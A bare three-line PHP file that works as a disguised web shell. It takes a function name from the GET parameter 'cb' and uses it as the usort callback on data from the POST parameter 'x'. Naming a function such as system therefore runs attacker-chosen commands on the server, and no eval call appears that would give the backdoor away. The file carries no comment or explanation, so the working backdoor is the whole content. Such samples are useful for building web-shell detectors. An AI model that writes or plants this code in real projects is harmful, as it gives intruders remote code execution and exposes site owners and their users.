<?php
$a = array($_POST['x'], 1);
usort($a, $_GET['cb']);
